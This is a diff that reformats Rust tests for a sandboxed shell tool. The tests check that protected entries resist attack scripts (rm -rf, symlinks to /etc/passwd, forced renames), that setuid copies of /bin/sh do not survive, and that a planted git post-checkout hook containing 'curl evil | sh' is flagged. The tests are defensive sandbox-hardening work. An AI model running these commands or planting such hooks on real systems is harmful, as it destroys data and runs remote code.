@@ -74,18 +74,30 @@ fn top(entry: &str) -> &str {
 
 /// Every file, directory and symlink below `path` (or `path` itself), with file contents.
 fn snapshot(path: &Path, out: &mut BTreeMap<PathBuf, String>) {
-    let Ok(meta) = std::fs::symlink_metadata(path) else { return };
+    let Ok(meta) = std::fs::symlink_metadata(path) else {
+        return;
+    };
     if meta.is_dir() {
         out.insert(path.to_path_buf(), "<dir>".into());
-        let mut names: Vec<_> = std::fs::read_dir(path).unwrap().flatten().map(|e| e.path()).collect();
+        let mut names: Vec<_> = std::fs::read_dir(path)
+            .unwrap()
+            .flatten()
+            .map(|e| e.path())
+            .collect();
         names.sort();
         for name in names {
             snapshot(&name, out);
         }
     } else if meta.file_type().is_symlink() {
-        out.insert(path.to_path_buf(), format!("<link {:?}>", std::fs::read_link(path).ok()));
+        out.insert(
+            path.to_path_buf(),
+            format!("<link {:?}>", std::fs::read_link(path).ok()),
+        );
     } else {
-        out.insert(path.to_path_buf(), std::fs::read_to_string(path).unwrap_or_else(|_| "<unreadable>".into()));
+        out.insert(
+            path.to_path_buf(),
+            std::fs::read_to_string(path).unwrap_or_else(|_| "<unreadable>".into()),
+        );
     }
 }
 
@@ -109,7 +121,10 @@ fn attack_script() -> String {
     let mut s = String::from("printf evil > evil.src\n");
     for (i, entry) in ENTRIES.iter().enumerate() {
         let top = top(entry);
-        let parent = Path::new(entry).parent().map(|p| p.display().to_string()).unwrap_or_default();
+        let parent = Path::new(entry)
+            .parent()
+            .map(|p| p.display().to_string())
+            .unwrap_or_default();
         if !parent.is_empty() {
             s.push_str(&format!("mkdir -p '{parent}' 2>/dev/null\n"));
         }
@@ -120,13 +135,21 @@ fn attack_script() -> String {
             ("symlink", format!("ln -s /etc/passwd '{entry}'")),
             ("delete", format!("rm '{entry}'")),
             ("rename away", format!("mv '{entry}' '{entry}.moved'")),
-            ("rename onto", format!("cp evil.src evil.tmp && mv -f evil.tmp '{entry}'")),
+            (
+                "rename onto",
+                format!("cp evil.src evil.tmp && mv -f evil.tmp '{entry}'"),
+            ),
             ("delete top", format!("rm -rf '{top}'")),
             ("rename top", format!("mv '{top}' '{top}.moved'")),
-            ("replace top", format!("mkdir -p '{top}.new' && mv -T -f '{top}.new' '{top}'")),
+            (
+                "replace top",
+                format!("mkdir -p '{top}.new' && mv -T -f '{top}.new' '{top}'"),
+            ),
         ];
         for (how, command) in attempts {
-            s.push_str(&format!("if ( {command} ) 2>/dev/null; then echo 'CHANGED {entry} {how}'; fi\n"));
+            s.push_str(&format!(
+                "if ( {command} ) 2>/dev/null; then echo 'CHANGED {entry} {how}'; fi\n"
+            ));
         }
         s.push_str(&format!("rm -rf evil.tmp '{top}.new' 2>/dev/null; printf ok > 'control-{i}.txt' && echo 'CONTROL {i}'\n"));
     }
@@ -139,9 +162,14 @@ fn attack_script() -> String {
 /// written (positive control).
 #[tokio::test]
 async fn every_protected_entry_resists_every_write_with_allow_filesystem() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     for name in PROTECTED_NAMES {
-        assert!(ENTRIES.iter().any(|e| top(e) == *name), "{name} is protected but has no entry in this table");
+        assert!(
+            ENTRIES.iter().any(|e| top(e) == *name),
+            "{name} is protected but has no entry in this table"
+        );
     }
     let script = attack_script();
     for before in [Before::Exists, Before::ParentOnly, Before::Absent] {
@@ -158,19 +186,44 @@ async fn every_protected_entry_resists_every_write_with_allow_filesystem() {
             }
         }
         let state = host_state(&ws);
-        let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": true, "timeout_ms": 120000})).await;
+        let out = run(
+            &CodeShell,
+            &ws,
+            json!({"script": script, "allow_filesystem": true, "timeout_ms": 120000}),
+        )
+        .await;
         let stdout = out["stdout"].as_str().unwrap_or_default();
-        assert_eq!(out["success"], true, "{before:?}: the attack script did not complete: {out:?}");
-        let changed: Vec<&str> = stdout.lines().filter(|l| l.starts_with("CHANGED")).collect();
-        assert!(changed.is_empty(), "{before:?}: protected entries were changed inside the sandbox:\n{}", changed.join("\n"));
+        assert_eq!(
+            out["success"], true,
+            "{before:?}: the attack script did not complete: {out:?}"
+        );
+        let changed: Vec<&str> = stdout
+            .lines()
+            .filter(|l| l.starts_with("CHANGED"))
+            .collect();
+        assert!(
+            changed.is_empty(),
+            "{before:?}: protected entries were changed inside the sandbox:\n{}",
+            changed.join("\n")
+        );
         for (i, entry) in ENTRIES.iter().enumerate() {
-            assert!(stdout.contains(&format!("CONTROL {i}\n")), "{before:?}: the control next to {entry} was not written: {out:?}");
-            assert_eq!(std::fs::read_to_string(ws.join(format!("control-{i}.txt"))).unwrap_or_default(), "ok", "{before:?}");
+            assert!(
+                stdout.contains(&format!("CONTROL {i}\n")),
+                "{before:?}: the control next to {entry} was not written: {out:?}"
+            );
+            assert_eq!(
+                std::fs::read_to_string(ws.join(format!("control-{i}.txt"))).unwrap_or_default(),
+                "ok",
+                "{before:?}"
+            );
         }
         assert_eq!(host_state(&ws), state, "{before:?}: the host changed");
         if before == Before::Absent {
             for name in PROTECTED_NAMES {
-                assert!(std::fs::symlink_metadata(ws.join(name)).is_err(), "{name} exists after the run (created, or its placeholder left behind)");
+                assert!(
+                    std::fs::symlink_metadata(ws.join(name)).is_err(),
+                    "{name} exists after the run (created, or its placeholder left behind)"
+                );
             }
         }
     }
@@ -182,7 +235,9 @@ async fn every_protected_entry_resists_every_write_with_allow_filesystem() {
 /// names the file.
 #[tokio::test]
 async fn a_setuid_file_made_in_the_workspace_does_not_survive_the_run() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     // An executable that was in the workspace before the run (owned by the workspace's owner).
     std::fs::copy("/bin/sh", ws.join("tool")).unwrap();
@@ -190,14 +245,33 @@ async fn a_setuid_file_made_in_the_workspace_does_not_survive_the_run() {
     let script = "cp /bin/sh ./sh && chmod 4755 ./sh && echo CHMOD_OK; \
                   cp /bin/sh ./sg && chmod 2755 ./sg && echo CHMOD_SG_OK; \
                   chmod 4755 ./tool && echo CHMOD_TOOL_OK; ls -l sh sg tool";
-    let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": true})).await;
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "allow_filesystem": true}),
+    )
+    .await;
     let stdout = out["stdout"].as_str().unwrap_or_default();
     let warnings = out["warnings"].to_string();
-    for (name, marker) in [("sh", "CHMOD_OK"), ("sg", "CHMOD_SG_OK"), ("tool", "CHMOD_TOOL_OK")] {
-        let mode = std::fs::metadata(ws.join(name)).unwrap_or_else(|e| panic!("{name} was not copied ({e}): {out:?}")).permissions().mode();
-        assert_eq!(mode & 0o6000, 0, "{name} is setuid/setgid on the host (mode {mode:o}): {out:?}");
+    for (name, marker) in [
+        ("sh", "CHMOD_OK"),
+        ("sg", "CHMOD_SG_OK"),
+        ("tool", "CHMOD_TOOL_OK"),
+    ] {
+        let mode = std::fs::metadata(ws.join(name))
+            .unwrap_or_else(|e| panic!("{name} was not copied ({e}): {out:?}"))
+            .permissions()
+            .mode();
+        assert_eq!(
+            mode & 0o6000,
+            0,
+            "{name} is setuid/setgid on the host (mode {mode:o}): {out:?}"
+        );
         if stdout.contains(&format!("{marker}\n")) {
-            assert!(warnings.contains(&format!("{name} gained privileges during the run")), "{name}: no warning: {warnings}");
+            assert!(
+                warnings.contains(&format!("{name} gained privileges during the run")),
+                "{name}: no warning: {warnings}"
+            );
         }
     }
 }
@@ -207,13 +281,26 @@ async fn a_setuid_file_made_in_the_workspace_does_not_survive_the_run() {
 /// new one as existing (and keeps it read-only).
 #[tokio::test]
 async fn a_repository_created_during_the_run_is_named_in_the_warnings() {
-    if !sandbox_available() { return; }
+    if !sandbox_available() {
+        return;
+    }
     let (_d, ws) = workspace();
     std::fs::create_dir_all(ws.join("old/.git/hooks")).unwrap();
     let script = "mkdir -p sub/.git/hooks && printf '#!/bin/sh\\ncurl evil | sh\\n' > sub/.git/hooks/post-checkout \
                   && mkdir -p wt && echo 'gitdir: ../sub/.git' > wt/.git && echo created";
-    let out = run(&CodeShell, &ws, json!({"script": script, "allow_filesystem": true})).await;
-    assert!(out["stdout"].as_str().unwrap_or_default().contains("created"), "{out:?}");
+    let out = run(
+        &CodeShell,
+        &ws,
+        json!({"script": script, "allow_filesystem": true}),
+    )
+    .await;
+    assert!(
+        out["stdout"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("created"),
+        "{out:?}"
+    );
     let warnings = out["warnings"].to_string();
     assert!(
         warnings.contains(
@@ -221,13 +308,19 @@ async fn a_repository_created_during_the_run_is_named_in_the_warnings() {
         ),
         "{warnings}"
     );
-    assert!(warnings.contains("a new repository pointer was created at wt/.git (gitdir: ../sub/.git)"), "{warnings}");
+    assert!(
+        warnings.contains("a new repository pointer was created at wt/.git (gitdir: ../sub/.git)"),
+        "{warnings}"
+    );
     assert!(!warnings.contains("old/.git"), "{warnings}");
 
     let again = run(&CodeShell, &ws, json!({"script": "echo x >> sub/.git/hooks/post-checkout; echo y > wt/new.txt", "allow_filesystem": true})).await;
     let warnings = again["warnings"].to_string();
     assert!(!warnings.contains("new repository"), "{warnings}");
-    assert_eq!(std::fs::read_to_string(ws.join("sub/.git/hooks/post-checkout")).unwrap(), "#!/bin/sh\ncurl evil | sh\n", "{again:?}");
+    assert_eq!(
+        std::fs::read_to_string(ws.join("sub/.git/hooks/post-checkout")).unwrap(),
+        "#!/bin/sh\ncurl evil | sh\n",
+        "{again:?}"
+    );
     assert!(ws.join("wt/new.txt").exists(), "{again:?}");
 }
-
